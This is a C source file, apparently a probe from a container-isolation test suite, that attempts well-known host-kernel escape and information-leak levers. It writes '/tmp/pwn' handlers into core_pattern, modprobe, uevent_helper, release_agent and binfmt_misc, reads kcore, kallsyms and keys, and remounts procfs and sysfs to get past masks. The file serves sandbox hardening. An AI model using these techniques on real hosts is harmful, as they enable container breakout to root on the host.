/* /proc and /sys levers of the host kernel: sysrq-trigger, core_pattern
 * (a pipe runs as root on the host: the classic container escape), sched
 * knobs, drop_caches, kcore and kallsyms (kernel memory and addresses), and
 * mounting a fresh sysfs or procfs to get around the masks. */
#include "attack.h"

#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>

static void try_read_secret(const char *path)
{
    char what[256], buf[4096];
    snprintf(what, sizeof what, "read %s", path);
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        attempt(0, what, "open: %s", res(fd));
        return;
    }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) {
        attempt(0, what, "%s", n < 0 ? res(n) : "empty (masked by /dev/null)");
        return;
    }
    buf[n] = '\0';
    /* kallsyms with real addresses: any line not starting "0000000000000000". */
    int real = strncmp(buf, "0000000000000000", 16) != 0;
    attempt(real, what, "%zd bytes, %s", n, real ? "non-zero content" : "addresses zeroed");
}

int main(void)
{
    attempt_write("/proc/sysrq-trigger", "h");
    attempt_write("/proc/sys/kernel/core_pattern", "|/tmp/pwn");
    attempt_write("/proc/sys/kernel/sched_child_runs_first", "1");
    attempt_write("/proc/sys/kernel/sched_rr_timeslice_ms", "1");
    attempt_write("/proc/sys/vm/drop_caches", "3");
    attempt_write("/proc/sys/kernel/hostname", "pwned");
    attempt_write("/proc/sys/kernel/modprobe", "/tmp/pwn");
    attempt_write("/proc/sys/fs/binfmt_misc/register", ":pwn:M::PWN::/tmp/pwn:");
    attempt_write("/sys/kernel/uevent_helper", "/tmp/pwn");
    attempt_write("/sys/fs/cgroup/release_agent", "/tmp/pwn");
    try_read_secret("/proc/kcore");
    try_read_secret("/proc/kallsyms");
    try_read_secret("/proc/kmsg");
    try_read_secret("/proc/keys");
    mkdir("/tmp/sys", 0755);
    int r = mount("sysfs", "/tmp/sys", "sysfs", 0, NULL);
    attempt(r == 0, "mount sysfs", "%s", res(r));
    mkdir("/tmp/proc2", 0755);
    r = mount("proc", "/tmp/proc2", "proc", 0, NULL);
    attempt(r == 0, "mount a fresh procfs (unmasked)", "%s", res(r));
    r = umount2("/proc/kcore", MNT_DETACH);
    attempt(r == 0, "unmount the mask on /proc/kcore", "%s", res(r));
    r = mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
    attempt(r == 0, "remount /proc/sys read-write", "%s", res(r));
    return done();
}
